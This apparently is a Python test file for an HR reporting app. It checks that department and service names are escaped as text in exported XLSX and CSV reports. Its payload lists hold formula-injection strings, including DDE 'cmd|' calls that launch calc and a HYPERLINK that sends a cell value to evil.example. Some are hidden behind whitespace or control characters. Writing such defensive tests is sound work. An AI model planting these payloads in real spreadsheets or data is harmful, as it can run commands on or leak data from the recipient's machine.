"""Formula (CSV) injection: a name that a spreadsheet runs when HR opens the quarterly report.

Attack covered: whoever names a department or a service (admin, org import) starts the name
with =, +, -, @, a tab or a carriage return, or hides the = behind a control character
that the XLSX writer has to drop (XML cannot hold it), or behind leading whitespace (spaces,
a newline, a tab, a carriage return, Unicode spaces, zero-width characters) that a
spreadsheet may trim on import, hoping for a live formula such as =HYPERLINK(...) or a DDE
call in HR's spreadsheet. Every such cell is written as text behind a single quote, in the
XLSX and in the CSV files, wherever the name appears. The plain list of triggers on
department names is also in tests/scorecards/reports/test_content.py.
"""

import csv
import io
import zipfile

import openpyxl
import pytest

from scorecards.reports import services as report_services
from scorecards.reports.writers import escape_cell

# A trigger behind whitespace that a spreadsheet may trim when it imports the file.
BEHIND_WHITESPACE = [
    " =1+1",
    '\n=HYPERLINK("http://evil.example","x")',
    "  \t@SUM(1+1)*cmd|' /C calc'!A0",
    "\r\n+cmd|' /C calc'!A0",
    "\u00a0-2+3+cmd|' /C calc'!A0",  # no-break space
    "\u3000=1+1",  # ideographic space
    "\ufeff\u200b=1+1",  # byte order mark, zero-width space
    "\n \x01=1+1",  # whitespace, then a control character the XLSX writer drops
]
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '\x01=HYPERLINK("http://evil.example","x")',  # the control character is dropped
    "\x0b+cmd|' /C calc'!A0",
    *BEHIND_WHITESPACE,
]


def generate(world, file_format) -> bytes:
    report, _ = report_services.report_request(
        quarter="2026-Q3", format=file_format, user=world.org.hr, force=True, enqueue=False
    )
    report_services.report_generate(report_id=report.pk)
    report.refresh_from_db()
    assert report.status == "done", report.error
    with report.file.open("rb") as handle:
        return handle.read()


def is_planted(text: str) -> bool:
    return "cmd|" in text or "HYPERLINK" in text or "=1+1" in text or "SUM(" in text


def test_no_planted_name_becomes_a_formula_in_the_xlsx(world):
    for payload in PAYLOADS:
        world.org.provider.name = payload
        world.org.provider.save()
        world.laptop.name = f"{payload} laptop"
        world.laptop.save()

        workbook = openpyxl.load_workbook(io.BytesIO(generate(world, "xlsx")))

        cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == [], payload
        planted = [
            cell.value for cell in cells if isinstance(cell.value, str) and is_planted(cell.value)
        ]
        assert len(planted) >= 3, payload  # providers, services, matrix...
        assert all(value.startswith("'") for value in planted), planted


def test_no_planted_name_starts_a_cell_in_the_csv_files(world):
    for payload in PAYLOADS:
        world.org.provider.name = payload
        world.org.provider.save()

        archive = zipfile.ZipFile(io.BytesIO(generate(world, "csv")))

        planted = [
            cell
            for name in archive.namelist()
            for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"), newline=""))
            for cell in row
            if is_planted(cell)
        ]
        assert len(planted) >= 3, payload
        assert all(cell.startswith("'") for cell in planted), planted


@pytest.mark.parametrize("payload", BEHIND_WHITESPACE, ids=repr)
def test_a_trigger_behind_whitespace_is_escaped(payload):
    assert escape_cell(payload) == "'" + payload


@pytest.mark.parametrize("text", [" Sales", "\nNotes", "Sales - North", "\u00a0IT", ""], ids=repr)
def test_whitespace_before_plain_text_is_left_alone(text):
    assert escape_cell(text) == text
